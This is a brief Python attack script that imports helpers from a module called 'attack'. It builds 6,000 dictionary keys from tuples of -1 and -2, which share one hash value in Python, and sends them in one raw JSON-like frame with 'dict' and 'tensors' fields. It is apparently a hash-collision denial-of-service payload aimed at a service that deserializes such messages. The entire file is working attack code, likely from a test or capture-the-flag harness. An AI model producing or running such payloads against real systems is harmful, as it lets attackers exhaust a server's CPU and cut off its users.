import os

from attack import *

keys = ['[{"tuple":[' + ",".join("-1" if i >> bit & 1 else "-2" for bit in range(14)) + "]},0]" for i in range(6_000)]
frame = message('{"value":{"dict":[' + ",".join(keys) + ']},"tensors":[]}')


@at_call
def send():
    send_raw(frame)
    os._exit(0)
